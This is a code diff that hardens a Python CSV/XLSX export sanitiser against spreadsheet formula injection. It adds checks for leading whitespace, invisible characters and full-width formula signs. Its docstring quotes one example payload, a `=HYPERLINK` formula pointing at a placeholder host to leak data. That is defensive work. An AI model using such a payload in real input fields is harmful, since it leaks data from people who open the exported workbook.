@@ -1,7 +1,8 @@
 """Every text cell of every export goes through here, so no user input ever runs as a formula.
 
-A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` as a formula, and some also after a
-leading tab or carriage return (OWASP "CSV injection"): a visitor named
+A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` as a formula, and some also after
+leading spaces, tabs, line breaks or control characters, or with the full-width ＝ ＋ － ＠ (OWASP "CSV
+injection"): a visitor named
 `=HYPERLINK("http://x.example/?leak","click")` would become a live link in the Kasubag's workbook.
 CSV has no cell types, so such a cell gets a leading apostrophe (Excel's own "this is text" mark);
 XLSX has them, so the cell is written as a string with Excel's quote-prefix style and keeps its text.
@@ -9,11 +10,21 @@ XLSX has them, so the cell is written as a string with Excel's quote-prefix styl
 from __future__ import annotations
 
 import re
+import unicodedata
 
 from openpyxl.cell.cell import Cell
 
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-# A plain number such as -5 or +62 is not a formula and is left as it is.
+# What starts a formula, once a spreadsheet has skipped what it skips in front (below): the ASCII
+# signs, and their full-width forms, which an East Asian input method types and some spreadsheets
+# take for the ASCII ones.
+FORMULA_SIGNS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
+# A cell that itself starts with a tab or a line break is marked whatever follows (OWASP: a leading
+# tab or CR is read as a formula start by some spreadsheets; LibreOffice drops a leading tab).
+MARKED_STARTS = ("\t", "\r", "\n")
+# A plain number such as -5, +62 or +6281234567890 is not a formula and is left as it is, so a phone
+# number typed with its country code stays readable. A phone number with spaces or dashes
+# (+62 812-3456) is not a plain number: Excel would evaluate it, so it gets the text mark, which
+# Excel hides and shows as typed (a CSV read by other programs shows the leading ').
 PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
 # Where a spreadsheet splitting a CSV at ";" starts a new cell inside one of our cells (csv_text).
 CELL_STARTS = re.compile(r"(\r\n|\r|\n|;)")
@@ -21,8 +32,20 @@ CELL_STARTS = re.compile(r"(\r\n|\r|\n|;)")
 ILLEGAL = {chr(c) for c in range(32)} - {"\t", "\n", "\r"}
 
 
+def _skipped(ch: str) -> bool:
+    """What a spreadsheet may pass over before it decides a cell is a formula: spaces of any kind,
+    tabs and line breaks, control and invisible format characters (a zero-width space, a BOM)."""
+    return ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf")
+
+
 def looks_like_formula(text: str) -> bool:
-    return text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text)
+    if text.startswith(MARKED_STARTS):
+        return True
+    start = 0
+    while start < len(text) and _skipped(text[start]):
+        start += 1
+    rest = text[start:]
+    return rest[:1] in FORMULA_SIGNS and not PLAIN_NUMBER.fullmatch(rest)
 
 
 def csv_text(value: object) -> str:
